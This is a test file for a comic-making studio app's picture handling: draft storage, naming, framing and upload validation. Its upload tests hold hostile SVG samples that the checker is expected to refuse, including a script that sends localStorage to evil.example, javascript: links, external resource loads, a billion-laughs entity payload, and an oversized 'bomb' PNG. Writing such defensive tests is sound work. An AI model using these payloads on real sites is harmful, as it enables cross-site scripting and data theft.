/**
 * A draft's own pictures: names that never replace an earlier picture, a panel's size and byte budget, framing a
 * picture of another shape, the upload's verdict (the art rule story:check applies, with its reasons), and the
 * pictures kept in IndexedDB beside the drafts, through a database upgrade, a duplicate and a delete.
 */
import 'fake-indexeddb/auto';
import * as v from 'valibot';
import { openDB } from 'idb';
import { describe, expect, it, vi } from 'vitest';
import { copyDraftArt, draftArt, pictureType, pruneDraftArt, putDraftArt } from '../../src/studio/art/art-store';
import { storyPictures } from '../../src/content/app-files';
import { dragged, placement, shapeFit, START_FRAMING } from '../../src/studio/art/framing';
import { MAX_PIXELS, pictureDimensions } from '../../src/story/art-file/dimensions';
import { fileSize, PAGE_WIDTH_PX, PANEL_BUDGET_BYTES, panelPixels } from '../../src/studio/art/picture-size';
import { checkUpload, pictureName } from '../../src/studio/art/upload-check';
import { createDraft } from '../../src/studio/drafts/draft';
import { deleteDraft, getDraft, saveDraft } from '../../src/studio/drafts/draft-store';
import { newStory } from '../../src/studio/edit/new-story';
import { addPage, setCover, setPanel, storyArt } from '../../src/studio/edit/pages';
import { packOfDraft } from '../../src/studio/share/draft-pack';
import { packContext } from '../../tools/pack-files';
import { FileNameSchema } from '../../src/story/schema';

const story = newStory(
  { title: 'Di Pelabuhan', language: 'id', characters: ['Rina'] },
  { summary: 'Ringkasan.', sceneTitle: 'Awal', description: 'Rina di dermaga.', endingTitle: 'Tamat', endingText: 'Rina pulang.' },
);
const bytes = (text: string) => new TextEncoder().encode(text);
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
const svg = (body: string, before = '') => bytes(`${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${body}</svg>`);

describe('the pictures kept with a draft', () => {
  it('a database of the first version is upgraded and keeps its drafts', async () => {
    // The Studio's database as the version before pictures left it: drafts only.
    const old = await openDB('komik-saku-studio', 1, { upgrade: (database) => void database.createObjectStore('drafts', { keyPath: 'id' }) });
    await old.put('drafts', { ...createDraft('d-old', story, [], 1), revision: 3 });
    old.close();
    expect((await getDraft('d-old'))?.revision).toBe(3);
    expect(await draftArt('d-old')).toEqual(new Map());
  });

  it('are kept by draft and name, copied with a duplicate, and deleted with their draft only', async () => {
    await saveDraft(createDraft('d-a', story, [], 1));
    await saveDraft(createDraft('d-b', story, [], 1));
    await putDraftArt('d-a', new Map([['awal-1-1.webp', new Blob(['webp bytes'], { type: 'image/webp' })]]));
    await putDraftArt('d-b', new Map([['other.svg', new Blob(['<svg/>'])]]));
    await copyDraftArt('d-a', 'd-copy');
    await deleteDraft('d-a');
    expect(await draftArt('d-a')).toEqual(new Map());
    expect(await getDraft('d-a')).toBeNull();
    const copied = await draftArt('d-copy');
    expect([...copied.keys()]).toEqual(['awal-1-1.webp']);
    expect(await copied.get('awal-1-1.webp')!.text()).toBe('webp bytes');
    expect([...(await draftArt('d-b')).keys()]).toEqual(['other.svg']);
  });

  it('a picture replaced (a panel composed again, another upload) is left out of the pack and deleted when the draft opens next', async () => {
    const panelId = story.scenes[0]!.pages[0]!.panels[0]!.id;
    const first = setPanel(story, panelId, { art: 'awal-1-1.svg' });
    const again = setPanel(first, panelId, { art: 'awal-1-1-2.svg' });
    const files = new Map([
      ['awal-1-1.svg', new Blob(['<svg/>'])],
      ['awal-1-1-2.svg', new Blob(['<svg>2</svg>'])],
    ]);
    await saveDraft(createDraft('d-re', again, [], 1));
    await putDraftArt('d-re', files);
    await putDraftArt('d-other', new Map([['awal-1-1.svg', new Blob(['<svg/>'])]]));
    // The pack takes only what the story shows (the cover is the app's, fetched: none here).
    vi.stubGlobal('fetch', () => Promise.reject(new Error('offline')));
    expect([...(await storyPictures(again, files)).keys()]).toEqual(['awal-1-1-2.svg']);
    vi.unstubAllGlobals();
    expect(await pruneDraftArt('d-re', storyArt(again))).toEqual(['awal-1-1.svg']);
    expect([...(await draftArt('d-re')).keys()]).toEqual(['awal-1-1-2.svg']);
    expect([...(await draftArt('d-other')).keys()]).toEqual(['awal-1-1.svg']);
  });

  it('have the type a browser needs to show them', () => {
    expect(['a.svg', 'a.webp', 'a.png', 'a.jpg'].map(pictureType)).toEqual(['image/svg+xml', 'image/webp', 'image/png', 'image/jpeg']);
  });
});

describe('names and sizes', () => {
  it('a new picture never takes the name of one the draft has, so undo brings the earlier one back', () => {
    expect(pictureName('awal-1-1', 'webp', new Set(['panel.svg']))).toBe('awal-1-1.webp');
    expect(pictureName('awal-1-1', 'webp', new Set(['awal-1-1.webp', 'awal-1-1-2.webp']))).toBe('awal-1-1-3.webp');
    expect(pictureName('awal-1-1', 'svg', new Set(['awal-1-1.webp']))).toBe('awal-1-1.svg');
    const long = pictureName('a'.repeat(64), 'webp', new Set());
    expect(v.is(FileNameSchema, long)).toBe(true);
  });

  it('a panel is drawn at its share of a page 960 pixels wide, in its own shape', () => {
    const single = panelPixels(story, 'awal-1-1');
    expect(single.width).toBe(Math.round(PAGE_WIDTH_PX * 0.96));
    const withQuarters = addPage(story, 'awal', 4, 'Empat panel.');
    const quarter = panelPixels(withQuarters, withQuarters.scenes[0]!.pages[1]!.panels[3]!.id);
    expect(quarter.width).toBeLessThan(PAGE_WIDTH_PX / 2);
    expect(quarter.width / quarter.height).toBeCloseTo((0.47 * (story.pageAspect ?? 0.7)) / 0.47, 1);
  });

  it('sizes read as an author reads them', () => {
    expect(fileSize(38 * 1024)).toBe('38 KB');
    expect(fileSize(PANEL_BUDGET_BYTES)).toBe('80 KB');
    expect(fileSize(3.4 * 1024 * 1024)).toBe('3.4 MB');
    expect(fileSize(10)).toBe('1 KB');
  });
});

describe('framing a picture in a panel of another shape', () => {
  const landscape = { width: 4000, height: 3000 };
  const tall = { width: 600, height: 900 };

  it('filling a tall panel with a landscape photo shows a slice of it, from the middle at first', () => {
    const at = placement(landscape, tall, START_FRAMING);
    expect(at.sh).toBe(3000);
    expect(at.sw).toBe(2000);
    expect(at.sx).toBe(1000);
    expect([at.dx, at.dy, at.dw, at.dh]).toEqual([0, 0, 600, 900]);
    expect(shapeFit(landscape, tall)).toEqual({ same: false, cutShare: 0.5, cut: 'sides' });
    expect(shapeFit({ width: 600, height: 905 }, tall)).toEqual({ same: true });
  });

  it('zoom shows less of it, and the window stays inside the picture', () => {
    const closer = placement(landscape, tall, { fit: 'fill', zoom: 2, x: 1, y: 1 });
    expect(closer.sw).toBe(1000);
    expect(closer.sx + closer.sw).toBe(4000);
    expect(closer.sy + closer.sh).toBe(3000);
    const wild = placement(landscape, tall, { fit: 'fill', zoom: 99, x: 7, y: -3 });
    expect(wild.sx + wild.sw).toBeLessThanOrEqual(4000);
    expect(wild.sy).toBe(0);
  });

  it('shown whole, it is centred with bands above and below', () => {
    const at = placement(landscape, tall, { ...START_FRAMING, fit: 'whole' });
    expect([at.sx, at.sy, at.sw, at.sh]).toEqual([0, 0, 4000, 3000]);
    expect(at.dw).toBe(600);
    expect(at.dh).toBe(450);
    expect(at.dy).toBe(225);
  });

  it('dragging the picture right shows more of its left side, and stops at its edge', () => {
    const shown = { width: 300, height: 450 };
    const moved = dragged(START_FRAMING, landscape, shown, 30, 40);
    expect(moved.x).toBeLessThan(0.5);
    expect(moved.y).toBe(0.5); // nothing to move up or down: the picture's height is all shown
    expect(dragged(START_FRAMING, landscape, shown, 10_000, 0).x).toBe(0);
  });
});

describe('what an upload may be', () => {
  it('a PNG, JPEG or WebP by its first bytes, whatever its name', () => {
    expect(checkUpload('photo.png', 'image/png', PNG)).toEqual({ ok: true, kind: 'raster' });
    expect(checkUpload('photo.svg', 'image/svg+xml', PNG)).toEqual({ ok: true, kind: 'raster' });
    expect(checkUpload('photo.jpeg', '', new Uint8Array([0xff, 0xd8, 0xff, 0xe0]))).toEqual({ ok: true, kind: 'raster' });
    expect(checkUpload('page.png', 'image/png', bytes('<html><script>alert(1)</script></html>'))).toEqual({ ok: false, refusal: 'not-a-picture' });
    expect(checkUpload('notes.txt', 'text/plain', bytes('hello'))).toEqual({ ok: false, refusal: 'not-a-picture' });
  });

  it('a plain drawing in SVG is kept; one larger than a panel’s budget is refused', () => {
    const plain = svg('<rect width="10" height="10" fill="#c33"/>');
    expect(checkUpload('rina.svg', 'image/svg+xml', plain)).toEqual({ ok: true, kind: 'svg', bytes: plain, removed: [] });
    const big = svg(`<path d="${'M0 0L1 1'.repeat(PANEL_BUDGET_BYTES / 8)}"/>`);
    expect(checkUpload('big.svg', '', big)).toEqual({ ok: false, refusal: 'too-large', bytes: big.length });
  });

  const hostile: [string, Uint8Array, RegExp][] = [
    ['a script', svg('<script>fetch("https://evil.example/?" + localStorage.getItem("komik"))</script>'), /<script> is not allowed: it runs code/],
    ['an onload handler', svg('<rect width="1" height="1" onload="alert(1)"/>'), /onload: an event handler runs code/],
    ['a javascript: link', svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'), /<a> is not allowed/],
    ['javascript: in <use>', svg('<use xlink:href="javascript:alert(1)"/>'), /a link may only point to a part of the same file/],
    ['a picture from another site', svg('<image href="http://evil.example/track.png" width="1" height="1"/>'), /links to files are not allowed/],
    [
      'an HTML page as data:',
      svg('<image href="data:text/html;base64,PHNjcmlwdD4=" width="1" height="1"/>'),
      /must be embedded as data:image\/png, jpeg or webp/,
    ],
    ['<use> of another file', svg('<use href="https://evil.example/sprites.svg#a"/>'), /a link may only point to a part of the same file/],
    ['foreignObject', svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'), /<foreignObject> is not allowed/],
    ['a style sheet', svg('<style>@import url(https://evil.example/a.css);</style>'), /<style> is not allowed/],
    [
      'entities that expand (a billion laughs)',
      svg('<text>&lol9;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol9 "&lol;&lol;&lol;&lol;&lol;&lol;">]>'),
      /a DOCTYPE is not allowed: it can define entities/,
    ],
  ];
  it.each(hostile)('an SVG with %s is refused, saying what and why, in the checker’s words', (_, file, reason) => {
    const upload = checkUpload('drawing.svg', 'image/svg+xml', file);
    expect(upload.ok).toBe(false);
    if (upload.ok || upload.refusal !== 'unsafe-svg') throw new Error(`not refused as unsafe: ${JSON.stringify(upload)}`);
    expect(upload.reasons.join('\n')).toMatch(reason);
    expect(upload.reasons[0]).toMatch(/^Line \d+, column \d+: /);
  });
});

describe('a new story with pictures of its own', () => {
  const { context } = packContext();
  const WEBP = new Uint8Array([...bytes('RIFF'), 4, 0, 0, 0, ...bytes('WEBP')]);

  it('is refused as a pack while its panels have no pictures, and saved once its panel and cover have its own', () => {
    const refused = packOfDraft(story, [], new Map(), context);
    expect(refused.ok).toBe(false);
    const pictured = setCover(setPanel(story, 'awal-1-1', { art: 'awal-1-1.webp' }), 'awal-1-1.webp');
    const packed = packOfDraft(pictured, [], new Map([['awal-1-1.webp', WEBP]]), context);
    expect(packed.ok ? [] : packed.problems.map((problem) => problem.message)).toEqual([]);
  });
});

describe('a picture’s size, read before it is decoded', () => {
  /** Made by Chromium's encoder (OffscreenCanvas.convertToBlob), 123 x 45. */
  const JPEG_123X45 = Uint8Array.from(
    atob(
      '/9j/4AAQSkZJRgABAQAAAQABAAD/4gHYSUNDX1BST0ZJTEUAAQEAAAHIAAAAAAQwAABtbnRyUkdCIFhZWiAH4AABAAEAAAAAAABhY3NwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAA9tYAAQAAAADTLQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAlkZXNjAAAA8AAAACRyWFlaAAABFAAAABRnWFlaAAABKAAAABRiWFlaAAABPAAAABR3dHB0AAABUAAAABRyVFJDAAABZAAAAChnVFJDAAABZAAAAChiVFJDAAABZAAAAChjcHJ0AAABjAAAADxtbHVjAAAAAAAAAAEAAAAMZW5VUwAAAAgAAAAcAHMAUgBHAEJYWVogAAAAAAAAb6IAADj1AAADkFhZWiAAAAAAAABimQAAt4UAABjaWFlaIAAAAAAAACSgAAAPhAAAts9YWVogAAAAAAAA9tYAAQAAAADTLXBhcmEAAAAAAAQAAAACZmYAAPKnAAANWQAAE9AAAApbAAAAAAAAAABtbHVjAAAAAAAAAAEAAAAMZW5VUwAAACAAAAAcAEcAbwBvAGcAbABlACAASQBuAGMALgAgADIAMAAxADb/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAAtAHsDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAX/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFgEBAQEAAAAAAAAAAAAAAAAAAAQG/8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAwDAQACEQMRAD8AngI2kAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAf/9k=',
    ),
    (char) => char.charCodeAt(0),
  );
  const WEBP_123X45 = Uint8Array.from(
    atob(
      'UklGRjYCAABXRUJQVlA4WAoAAAAgAAAAegAALAAASUNDUMgBAAAAAAHIAAAAAAQwAABtbnRyUkdCIFhZWiAH4AABAAEAAAAAAABhY3NwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAA9tYAAQAAAADTLQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAlkZXNjAAAA8AAAACRyWFlaAAABFAAAABRnWFlaAAABKAAAABRiWFlaAAABPAAAABR3dHB0AAABUAAAABRyVFJDAAABZAAAAChnVFJDAAABZAAAAChiVFJDAAABZAAAAChjcHJ0AAABjAAAADxtbHVjAAAAAAAAAAEAAAAMZW5VUwAAAAgAAAAcAHMAUgBHAEJYWVogAAAAAAAAb6IAADj1AAADkFhZWiAAAAAAAABimQAAt4UAABjaWFlaIAAAAAAAACSgAAAPhAAAts9YWVogAAAAAAAA9tYAAQAAAADTLXBhcmEAAAAAAAQAAAACZmYAAPKnAAANWQAAE9AAAApbAAAAAAAAAABtbHVjAAAAAAAAAAEAAAAMZW5VUwAAACAAAAAcAEcAbwBvAGcAbABlACAASQBuAGMALgAgADIAMAAxADZWUDggSAAAADAEAJ0BKnsALQA+0WiwUqglpKKhaAEAGglpANX0BFuHDhw4dFcqmp9d4AD+5AF/g2SKbkf/8Q5/Ll/EFf+6fXJCYDmMAAAAAA==',
    ),
    (char) => char.charCodeAt(0),
  );
  const u32 = (value: number) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
  const png = (width: number, height: number) => new Uint8Array([...PNG, ...bytes('IHDR'), ...u32(width), ...u32(height), 8, 6, 0, 0, 0]);
  const riff = (chunk: string, header: number[]) => new Uint8Array([...bytes('RIFF'), 0, 0, 0, 0, ...bytes('WEBP'), ...bytes(chunk), 0, 0, 0, 0, ...header]);

  it('PNG, JPEG and WebP (lossy, lossless, extended)', () => {
    expect(pictureDimensions(png(4000, 3000))).toEqual({ width: 4000, height: 3000 });
    expect(pictureDimensions(JPEG_123X45)).toEqual({ width: 123, height: 45 });
    expect(pictureDimensions(WEBP_123X45)).toEqual({ width: 123, height: 45 });
    const lossless = (1199 | (799 << 14)) >>> 0;
    expect(pictureDimensions(riff('VP8L', [0x2f, lossless & 255, (lossless >> 8) & 255, (lossless >> 16) & 255, lossless >>> 24]))).toEqual({
      width: 1200,
      height: 800,
    });
    expect(pictureDimensions(riff('VP8 ', [0, 0, 0, 0x9d, 0x01, 0x2a, 1200 & 255, 1200 >> 8, 800 & 255, 800 >> 8]))).toEqual({ width: 1200, height: 800 });
    expect(pictureDimensions(bytes('not a picture'))).toBeNull();
  });

  it('a picture of more pixels than a phone can decode is refused before it is decoded', () => {
    expect(checkUpload('huge.png', 'image/png', png(8000, 6000))).toEqual({ ok: true, kind: 'raster' });
    expect(checkUpload('bomb.png', 'image/png', png(100_000, 100_000))).toEqual({ ok: false, refusal: 'too-many-pixels', width: 100_000, height: 100_000 });
    expect(MAX_PIXELS).toBeGreaterThanOrEqual(8000 * 6000);
  });
});
